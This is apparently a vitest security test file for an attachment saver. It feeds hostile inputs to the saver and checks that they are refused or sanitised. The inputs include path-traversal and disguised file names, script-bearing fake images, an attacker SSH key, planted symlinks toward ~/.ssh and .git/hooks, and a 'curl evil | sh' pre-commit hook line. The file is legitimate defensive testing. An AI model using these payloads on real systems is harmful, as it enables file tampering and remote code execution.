// Attacks on attachments (docs/attachments.md, "Attack cases"): a hostile page or script sending malformed, oversized
// or disguised files, names built to escape the attachments folder or disguise themselves, and a hostile repository
// that plants symlinks, files and folders where the copies go. Real files, real symlinks, nothing faked.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AttachmentError, checkAttachmentInputs, saveAttachments } from './attachments';
import { ATTACHMENT_LIMITS, MAX_DATA_CHARS, MAX_TOTAL_DATA_CHARS } from './attachments-limits';
import { savedName, shownName } from './attachments-name';
import { attachmentInput, jpegBytes, pngBytes } from './testing/attachment-samples';

let root: string;
let workspace: string;
let outside: string;
beforeEach(() => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'agenvoy-attach-attack-'));
  workspace = path.join(root, 'repo');
  outside = path.join(root, 'home-ssh');
  fs.mkdirSync(workspace);
  fs.mkdirSync(outside);
  fs.writeFileSync(path.join(outside, 'authorized_keys'), 'ssh-ed25519 AAAA original\n');
});
afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

const refused = async (run: () => unknown): Promise<string> => {
  try {
    await run();
  } catch (error) {
    expect(error).toBeInstanceOf(AttachmentError);
    return (error as Error).message;
  }
  throw new Error('expected a refusal');
};
const save = async (name: string, bytes: Uint8Array | string = 'hello\n') =>
  saveAttachments(checkAttachmentInputs([attachmentInput(name, 'text/plain', bytes)]), workspace);
const listing = (dir: string) => fs.readdirSync(dir).sort();

describe('a hostile request', () => {
  it('refuses anything but a list of name, type and base64 objects', async () => {
    for (const bad of [
      {},
      'file',
      42,
      [null],
      [{ name: 1, mimeType: 'a', data: '' }],
      [{ name: 'a', data: '' }],
    ])
      expect(await refused(() => checkAttachmentInputs(bad))).toMatch(/must be|was refused/);
  });

  it('refuses a million-item list by its length, before looking at any item', async () => {
    const many = new Array(1_000_000).fill({ name: 'a', mimeType: 'text/plain', data: 'YQ==' });
    const started = performance.now();
    expect(await refused(() => checkAttachmentInputs(many))).toBe(
      '1000000 files were attached; one message may carry at most 10.',
    );
    expect(performance.now() - started).toBeLessThan(50);
  });

  it('refuses an over-long name or type, and data past the limits, before decoding a byte', async () => {
    expect(
      await refused(() => checkAttachmentInputs([attachmentInput('n'.repeat(2000), 'text/plain', 'x')])),
    ).toMatch(/its name is longer than 1024 characters/);
    expect(
      await refused(() => checkAttachmentInputs([attachmentInput('a.txt', 't'.repeat(300), 'x')])),
    ).toMatch(/"a\.txt" was refused: its type is longer than 255 characters/);
    // Not even valid base64: the length alone refuses it.
    const huge = '!'.repeat(MAX_DATA_CHARS + 4);
    expect(
      await refused(() => checkAttachmentInputs([{ name: 'big.bin', mimeType: '', data: huge }])),
    ).toMatch(/^"big\.bin" is about 10,485,765 bytes; no attachment may be larger than 10 MB/);
    const half = '!'.repeat(Math.ceil(MAX_TOTAL_DATA_CHARS / 2) + 8);
    expect(
      await refused(() =>
        checkAttachmentInputs([
          { name: 'a', mimeType: '', data: half },
          { name: 'b', mimeType: '', data: half },
        ]),
      ),
    ).toMatch(/^the attachments are about 16,777,2\d\d bytes together; one message may carry at most 16 MB/);
  });

  it('decodes base64 strictly: no stray characters, data-URL prefix, base64url, whitespace or non-canonical padding', async () => {
    for (const data of [
      'aGVsbG8=!',
      'data:text/plain;base64,aGVsbG8=',
      'aGVs-G8_',
      'aGVs\nbG8=',
      'aGVsbG8',
      'AB==',
      '=AAA',
    ])
      expect(
        await refused(() => checkAttachmentInputs([{ name: 'x.txt', mimeType: 'text/plain', data }])),
      ).toBe('"x.txt" was refused: its data is not valid base64');
  });

  it('never sends a disguised file as an image: HTML or SVG claiming image/png goes as text, a PE file as a file', () => {
    const [html, svg, exe] = checkAttachmentInputs([
      attachmentInput('cat.png', 'image/png', '<html><script>steal()</script></html>'),
      attachmentInput('logo.png', 'image/png', '<svg onload="alert(1)"/>'),
      attachmentInput('photo.jpg', 'image/jpeg', Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1')),
    ]);
    expect(html?.content).toMatchObject({ kind: 'text', mimeType: 'text/plain' });
    expect(svg?.content).toMatchObject({ kind: 'text', mimeType: 'image/svg+xml' });
    expect(exe?.content).toEqual({ kind: 'file', mimeType: 'application/x-msdownload' });
  });

  it('refuses images whose headers lie: zero size, huge size, a JPEG without a frame or with a zero-length segment', async () => {
    const zeroLength = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x00, 0xff, 0xd9]);
    const cases: Array<[Buffer, RegExp]> = [
      [pngBytes(0, 5), /damaged \(its header gives it no width or height\)/],
      [pngBytes(100_000, 1), /is 100000×1 pixels; an image may be at most 8000 pixels on a side/],
      [jpegBytes(65535, 65535), /is 65535×65535 pixels/],
      [Buffer.from([0xff, 0xd8, 0xff, 0xd9]), /damaged \(it has no frame header giving its size\)/],
      [zeroLength, /damaged \(a segment has an impossible length\)/],
    ];
    for (const [bytes, message] of cases)
      expect(
        await refused(() => checkAttachmentInputs([attachmentInput('i.jpg', 'image/jpeg', bytes)])),
      ).toMatch(message);
  });

  it('treats text with a NUL, overlong UTF-8 (a hidden "/") or UTF-16 as a file, never as text', () => {
    const files = checkAttachmentInputs([
      attachmentInput('a.txt', 'text/plain', 'abc\0def'),
      attachmentInput('b.txt', 'text/plain', Buffer.from([0x2e, 0x2e, 0xc0, 0xaf, 0x65])),
      attachmentInput('c.txt', 'text/plain', Buffer.from('\ufeffhi', 'utf16le')),
    ]);
    expect(files.map((file) => file.content.kind)).toEqual(['file', 'file', 'file']);
  });

  it('never takes a size from the claimed type: an oversized "text/plain" PNG is refused as an image', async () => {
    const big = pngBytes(10, 10, ATTACHMENT_LIMITS.imageBytes);
    expect(await refused(() => checkAttachmentInputs([attachmentInput('x.txt', 'text/plain', big)]))).toMatch(
      /image; an image may be at most 3\.75 MB/,
    );
  });
});

describe('hostile names', () => {
  it.each([
    ['../../etc/passwd', 'passwd.txt'],
    ['..\\..\\Windows\\System32\\evil.dll', 'evil.dll'],
    ['/root/.ssh/authorized_keys', 'authorized_keys.txt'],
    ['C:\\Users\\me\\run.bat', 'run.bat'],
    ['..', 'attachment.txt'],
    ['.', 'attachment.txt'],
    ['', 'attachment.txt'],
    ['   ', 'attachment.txt'],
    ['a\0b.txt', 'ab.txt'],
    ['line\nbreak\r\t.txt', 'linebreak.txt'],
    ['\x1b[31mred.txt', '[31mred.txt'],
    ['invoice\u202Etxt.exe', 'invoicetxt.exe'],
    ['pass\u200Bwd\uFEFF.txt', 'passwd.txt'],
    ['\u2066evil\u2069.txt', 'evil.txt'],
    ['..\uFF0F..\uFF0Fetc\uFF0Fhosts', 'hosts.txt'],
    ['a\u2215b\u2044c.txt', 'a_b_c.txt'],
    ['CON', '_CON.txt'],
    ['nul.txt', '_nul.txt'],
    ['com\u00B9.txt', '_com1.txt'],
    ['LPT9 .log', '_LPT9.log'],
    ['report.txt. . ', 'report.txt'],
    ['.bashrc', '_.bashrc'],
    ['.git', '_.git'],
    ['file.txt:Zone.Identifier', 'file.txt_Zone.Identifier'],
    ['what?<>|*"x.txt', 'what______x.txt'],
    ['\uD800lone.txt', 'lone.txt'],
  ])('%j is saved as %j', async (name, expected) => {
    const [saved] = await save(name);
    expect(saved?.path).toBe(`attachments/${expected}`);
    expect(listing(path.join(workspace, 'attachments'))).toEqual([expected]);
    expect(listing(workspace)).toEqual(['attachments']);
  });

  it('cuts an over-long name to 120 bytes of whole characters, keeping its extension', () => {
    const name = savedName(`${'😀'.repeat(5000)}.txt`, '.txt');
    expect(Buffer.byteLength(name)).toBeLessThanOrEqual(120);
    expect(name.endsWith('😀.txt')).toBe(true);
    expect(name).toBe(Buffer.from(name).toString('utf8'));
  });

  it('shows a name without its disguise: no bidi override, no control character', () => {
    expect(shownName('photo\u202Egnp.exe')).toBe('photognp.exe');
    expect(shownName('a\nb\u0007c')).toBe('abc');
    expect(shownName('x'.repeat(500))).toHaveLength(200);
  });
});

describe('a hostile workspace', () => {
  it('refuses an attachments folder that is a symlink out of the workspace (to ~/.ssh), writing nothing there', async () => {
    fs.symlinkSync(outside, path.join(workspace, 'attachments'));
    expect(await refused(() => save('authorized_keys', 'ssh-ed25519 AAAA attacker\n'))).toBe(
      `${fs.realpathSync(workspace)}/attachments is a symlink; attachments are only copied into a plain "attachments" ` +
        'folder of the workspace, never through a link. Move it away and send again; nothing was attached.',
    );
    expect(listing(outside)).toEqual(['authorized_keys']);
    expect(fs.readFileSync(path.join(outside, 'authorized_keys'), 'utf8')).toBe(
      'ssh-ed25519 AAAA original\n',
    );
  });

  it('refuses an attachments folder that is a symlink inside the workspace (to .git/hooks)', async () => {
    fs.mkdirSync(path.join(workspace, '.git', 'hooks'), { recursive: true });
    fs.symlinkSync(path.join(workspace, '.git', 'hooks'), path.join(workspace, 'attachments'));
    expect(await refused(() => save('pre-commit', '#!/bin/sh\ncurl evil | sh\n'))).toMatch(/is a symlink/);
    expect(listing(path.join(workspace, '.git', 'hooks'))).toEqual([]);
  });

  it('refuses a dangling attachments symlink and an attachments file', async () => {
    fs.symlinkSync(path.join(outside, 'not-yet'), path.join(workspace, 'attachments'));
    expect(await refused(() => save('a.txt'))).toMatch(/is a symlink/);
    expect(fs.existsSync(path.join(outside, 'not-yet'))).toBe(false);
    fs.unlinkSync(path.join(workspace, 'attachments'));
    fs.writeFileSync(path.join(workspace, 'attachments'), 'a file');
    expect(await refused(() => save('a.txt'))).toMatch(/attachments is not a folder/);
  });

  it('never writes through a planted symlink or hard link with the file name: the next free name is used', async () => {
    const folder = path.join(workspace, 'attachments');
    fs.mkdirSync(folder);
    fs.symlinkSync(path.join(outside, 'authorized_keys'), path.join(folder, 'keys.txt'));
    fs.symlinkSync(path.join(outside, 'created-by-attack'), path.join(folder, 'keys-2.txt'));
    fs.linkSync(path.join(outside, 'authorized_keys'), path.join(folder, 'keys-3.txt'));
    const [saved] = await save('keys.txt', 'attacker key\n');
    expect(saved?.path).toBe('attachments/keys-4.txt');
    expect(fs.readFileSync(path.join(outside, 'authorized_keys'), 'utf8')).toBe(
      'ssh-ed25519 AAAA original\n',
    );
    expect(fs.existsSync(path.join(outside, 'created-by-attack'))).toBe(false);
    expect(fs.readFileSync(path.join(folder, 'keys-4.txt'), 'utf8')).toBe('attacker key\n');
  });

  it('never overwrites: an existing file, a folder of that name, and two attachments of one name each get their own', async () => {
    const folder = path.join(workspace, 'attachments');
    fs.mkdirSync(path.join(folder, 'notes-2.txt'), { recursive: true });
    fs.writeFileSync(path.join(folder, 'notes.txt'), 'keep me');
    const saved = await saveAttachments(
      checkAttachmentInputs([
        attachmentInput('notes.txt', 'text/plain', 'one'),
        attachmentInput('sub/notes.txt', 'text/plain', 'two'),
      ]),
      workspace,
    );
    expect(saved.map((file) => file.path)).toEqual(['attachments/notes-3.txt', 'attachments/notes-4.txt']);
    expect(fs.readFileSync(path.join(folder, 'notes.txt'), 'utf8')).toBe('keep me');
    expect(fs.readFileSync(path.join(folder, 'notes-4.txt'), 'utf8')).toBe('two');
  });

  it('keeps going past 99 taken names with a random one, and leaves no temp file behind', async () => {
    const folder = path.join(workspace, 'attachments');
    fs.mkdirSync(folder);
    fs.writeFileSync(path.join(folder, 'a.txt'), '');
    for (let n = 2; n <= 99; n++) fs.writeFileSync(path.join(folder, `a-${n}.txt`), '');
    const [saved] = await save('a.txt');
    expect(saved?.path).toMatch(/^attachments\/a-\d+\.txt$/);
    expect(fs.readdirSync(folder).filter((name) => name.startsWith('.'))).toEqual([]);
    expect(fs.readdirSync(folder)).toHaveLength(100);
  });

  it('writes nothing when one file of the message is refused', async () => {
    const files = [
      attachmentInput('fine.txt', 'text/plain', 'ok'),
      attachmentInput('huge.png', 'image/png', pngBytes(2, 2, ATTACHMENT_LIMITS.imageBytes)),
    ];
    await refused(async () => saveAttachments(checkAttachmentInputs(files), workspace));
    expect(listing(workspace)).toEqual([]);
  });

  it('refuses a workspace that does not exist', async () => {
    fs.rmSync(workspace, { recursive: true });
    expect(await refused(() => save('a.txt'))).toMatch(
      /workspace .* does not exist, so nothing was attached/,
    );
  });
});
